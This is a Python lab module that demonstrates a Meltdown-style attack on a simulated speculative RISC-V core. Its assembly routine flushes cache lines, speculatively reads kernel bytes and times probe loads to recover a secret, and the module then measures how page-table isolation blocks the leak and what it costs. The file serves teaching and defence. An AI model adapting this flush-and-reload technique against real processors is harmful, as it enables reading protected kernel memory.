"""C7: reading the kernel's memory through the cache of a speculative processor, and page-table isolation against it."""

from __future__ import annotations

import struct
from collections.abc import Sequence
from trapline.typed import Any

from trapline.labs.code import bare
from trapline.labs.code.spaces import EXECUTE, READ, USER, WRITE, Frames
from trapline.labs.code.speculation import MISS, CarefulBoard, SpeculativeBoard
from trapline.labs.code.text import assemble
from trapline.labs.framework.charts import Bars, Chart, Table
from trapline.labs.framework.lab import (
    Figures,
    Knobs,
    Lab,
    Progress,
    Verdict,
    choice,
    number,
    refuted,
    supported,
    switch,
    undecided,
)
from trapline.machine.paging.entry import PAGE_SHIFT, PAGE_SIZE
from trapline.machine.riscv.addresses import FINISHER, RAM_BASE
from trapline.machine.riscv.status import CBCFE, MODE_SHIFT, SV39_MODE
from trapline.machine.riscv.trap import ECALL_U, LOAD_PAGE, STORE_PAGE

KERNEL = 0xFFFF_FFC0_0000_0000  #: the kernel's code; behind it its data, and its device
SECRET, LOG, DEVICE = KERNEL + 0x1_0000, KERNEL + 0x2_0000, KERNEL + 0x3_0000
TRAMPOLINE = 0x3F_FFFF_F000  #: in both tables: where traps enter and leave
CODE, PROBE = 0x1_0000, 0x10_0000  #: of the program: its code, and the lines that it watches
LINE, VALUES = 64, 256
MOST = 20_000_000
TEXT = b"open sesame!"
VULNERABLE, CAREFUL = "vulnerable", "careful"
TOGETHER, APART = "one table", "page-table isolation"

EXPLAIN = """
Lab M3 shows that a program's load from the kernel's memory faults. On many processors before 2018 that was not the
whole story: the value was fetched, and instructions behind the load worked on with it, until the fault was noticed
and everything was undone. All but the cache.

The program reads the kernel's secret like this, byte by byte. It flushes 256 lines of its own memory from the cache;
loads the forbidden byte; and, in the instructions behind, which never happen, loads the line whose number is the
byte. The kernel gets its fault, and lets the program go on behind it. Then the program reads all its lines and takes
the time of each by the cycle counter: one of them is fast. Its number is the byte.

The processor is a model: this project's RISC-V hart with a cache (a miss takes 100 cycles, for a step of a walk too),
on which up to 16 instructions run ahead of a fault. `--core=careful` is the same without that: there the program
finds nothing.

Page-table isolation takes the kernel out of the table that is used in user mode, all but a page of code where traps
enter. That page changes the root (satp) on the way in and again on the way out. There is then no entry, so nothing to
fetch, and nothing leaks. The price is counted by calls that do nothing: two changes of satp each, and, without
address-space identifiers (`--without asid`), everything that the TLB knew, twice.

`--without isolation` leaves the kernel in the table in the second run, too. What is not modelled: prediction
(Spectre), which page-table isolation does not stop, noise, and everything that makes real attacks slow.
"""

_ATTACK = """
    li s0, SECRET
    li s1, BYTES
    li s2, PROBE
    li s3, VALUES
next_byte:
    mv t0, s2
    li t1, 0
flush:
    cbo.flush (t0)
    addi t0, t0, LINE
    addi t1, t1, 1
    bltu t1, s3, flush
    li t0, 0
    lbu t0, 0(s0)               # faults; what follows runs ahead with the byte, and then again with 0
    slli t0, t0, 6
    add t0, t0, s2
    lbu t1, 0(t0)
    li a0, 0                    # the answer
    li t1, 1
    addi t0, s2, LINE
look:
    csrr a1, cycle
    lbu a3, 0(t0)
    csrr a2, cycle
    sub a2, a2, a1
    li a4, SLOW
    bgeu a2, a4, slow
    mv a0, t1
slow:
    addi t0, t0, LINE
    addi t1, t1, 1
    bltu t1, s3, look
    li a7, 1
    ecall                       # report it
    addi s0, s0, 1
    addi s1, s1, -1
    bnez s1, next_byte
    li s1, CALLS                # and now the price
    csrr s4, cycle
    li a7, 0
call:
    ecall
    addi s1, s1, -1
    bnez s1, call
    csrr s5, cycle
    sub a0, s5, s4
    li a7, 2
    ecall
"""
_FIRMWARE = """
    la t0, stop
    csrw mtvec, t0
    li t0, -1
    csrw pmpaddr0, t0
    li t0, 31
    csrw pmpcfg0, t0
    li t0, 7
    csrw mcounteren, t0
    csrw scounteren, t0
    li t0, CBCFE                # user mode may flush its cache lines
    csrs menvcfg, t0
    csrs senvcfg, t0
    li t0, DELEGATED
    csrw medeleg, t0
    li t0, TRAMPOLINE
    csrw stvec, t0
    li t0, USER_TABLE
    csrw satp, t0
    sfence.vma
    li t0, CODE
    csrw mepc, t0
    csrw mstatus, zero
    mret
.align 4
stop:
    li t0, FINISHER
    li t1, PASS
    sw t1, 0(t0)
"""
#: by convention the program keeps nothing in t3 to t6
_ENTRY = """
    ENTER
    li t6, KERNEL
    jr t6
.align 64
    LEAVE
    sret
"""
_SERVE = """
    csrr t3, sepc
    addi t3, t3, 4
    csrw sepc, t3
    li t5, LOG
    csrr t3, scause
    li t4, ECALL_U
    bne t3, t4, fault
    beqz a7, back
    addi t3, a7, -1
    bnez t3, end
    ld t3, 0(t5)                # a byte is reported
    addi t4, t3, 1
    sd t4, 0(t5)
    add t3, t3, t5
    sb a0, 64(t3)
    j back
fault:
    ld t3, 8(t5)
    addi t3, t3, 1
    sd t3, 8(t5)
back:
    li t6, EXIT
    jr t6
end:
    sd a0, 16(t5)
    li t5, DEVICE
    li t4, PASS
    sw t4, 0(t5)
"""


def measure(knobs: Knobs, progress: Progress) -> Figures:
    runs = {}
    for name, apart in ((TOGETHER, False), (APART, knobs.on("isolation"))):
        progress(name)
        runs[name] = _run(knobs, apart)
    return {"secret": TEXT.decode(), "core": knobs.text("core"), "calls": knobs.number("calls"), "runs": runs}


def _run(knobs: Knobs, apart: bool) -> dict[str, Any]:
    frames = Frames()
    secret, log = frames.alloc(TEXT), frames.alloc()
    code, entry, serve = frames.alloc(), frames.alloc(), frames.alloc()
    lines = [frames.alloc() for _ in range(VALUES * LINE // PAGE_SIZE)]
    user = frames.alloc()
    kernel = frames.alloc() if apart else user
    for root in {user, kernel}:
        frames.map(root, TRAMPOLINE, entry, READ | EXECUTE)
    frames.map(user, CODE, code, READ | EXECUTE | USER)
    for n, page in enumerate(lines):
        frames.map(user, PROBE + n * PAGE_SIZE, page, READ | WRITE | USER)
    frames.map(kernel, KERNEL, serve, READ | EXECUTE)
    for va, pa in ((SECRET, secret), (LOG, log), (DEVICE, FINISHER)):
        frames.map(kernel, va, pa, READ | WRITE)
    asid = knobs.on("asid")
    tables = [SV39_MODE << MODE_SHIFT | n * asid << 44 | root >> PAGE_SHIFT for n, root in enumerate((user, kernel), 1)]
    names = {
        **bare.PLACES, "SECRET": SECRET, "LOG": LOG, "DEVICE": DEVICE, "CODE": CODE, "PROBE": PROBE, "LINE": LINE,
        "VALUES": VALUES, "BYTES": len(TEXT), "SLOW": MISS // 2, "CALLS": knobs.number("calls"), "CBCFE": CBCFE,
        "TRAMPOLINE": TRAMPOLINE,
        "USER_TABLE": tables[0], "KERNEL_TABLE": tables[1], "KERNEL": KERNEL, "ECALL_U": ECALL_U, "EXIT": TRAMPOLINE + 64,
        "DELEGATED": 1 << ECALL_U | 1 << LOAD_PAGE | 1 << STORE_PAGE,
    }  # fmt: skip
    change = "li t6, {}\ncsrw satp, t6\n" + ("" if asid else "sfence.vma\n") if apart else ""
    trampoline = _ENTRY.replace("ENTER", change.format("KERNEL_TABLE")).replace("LEAVE", change.format("USER_TABLE"))
    content = {
        code: assemble(_ATTACK, CODE, names).link(), serve: assemble(_SERVE, KERNEL, names).link(),
        entry: assemble(trampoline, TRAMPOLINE, names).link(),
    }  # fmt: skip
    pieces = [(at, content.get(at, page)) for at, page in frames.pieces()]
    board = SpeculativeBoard if knobs.text("core") == VULNERABLE else CarefulBoard
    memory, _ = bare.run(assemble(_FIRMWARE, RAM_BASE, names), most=MOST, pieces=pieces, make=board)
    reported, faults, cycles = struct.unpack_from("<3Q", memory, log - RAM_BASE)
    found = memory[log - RAM_BASE + 64 :][: min(reported, len(TEXT))]
    return {"found": list(found), "faults": faults, "cycles": cycles, "apart": apart}


def _shown(found: list[int]) -> str:
    """What the program found; a dot for a byte of which it found nothing."""
    return "".join(chr(byte) if 32 <= byte < 127 else "." for byte in found)


def _right(run: dict[str, Any]) -> int:
    return sum(a == b for a, b in zip(run["found"], TEXT, strict=False))


def draw(figures: Figures) -> Sequence[Chart]:
    runs, calls = figures["runs"], figures["calls"]
    rows = [
        [name, run["faults"], _shown(run["found"]), f"{_right(run)} of {len(TEXT)}", round(run["cycles"] / calls, 1)]
        for name, run in runs.items()
    ]
    heads = ("", "faults", "what the program found", "right", "cycles a call")
    return [
        Table(f"The kernel's secret is {figures['secret']!r}; the core is {figures['core']}", heads, rows),
        Bars("What a call that does nothing takes", [(name, run["cycles"] / calls) for name, run in runs.items()], "cycles"),
    ]


def verdict(figures: Figures) -> Verdict:
    together, apart = figures["runs"][TOGETHER], figures["runs"][APART]
    if not _right(together):
        return undecided(f"this core lets nothing through: {together['faults']} loads faulted, and the program found nothing")
    if _right(apart):
        return refuted(f"in the second run the program found {_right(apart)} of {len(TEXT)} bytes: {_shown(apart['found'])}")
    price = apart["cycles"] / together["cycles"]
    return supported(
        f"all {together['faults']} loads faulted, and yet the program read {_right(together)} of {len(TEXT)} bytes of "
        f"the kernel; with page-table isolation none, and a call takes {price:.2g} times as many cycles"
    )


LAB = Lab(
    id="C7",
    name="meltdown",
    title="Meltdown and page-table isolation",
    question="Can a load that faults tell a program what it was not allowed to read?",
    claim="Speculative execution leaks kernel data across the boundary; page-table isolation hides kernel memory from user "
    "space, at a modest cost.",
    machines=("board",),
    seconds=2,
    knobs=(
        choice("core", VULNERABLE, "whether the model runs ahead of a fault", VULNERABLE, CAREFUL),
        number("calls", 200, "calls by which the price is counted", 1, 10000),
        switch("isolation", "off: the kernel is in the second table, too"),
        switch("asid", "off: the TLB is flushed at each change of tables"),
    ),
    off="--without isolation",
    explain=EXPLAIN,
    measure=measure,
    draw=draw,
    verdict=verdict,
)
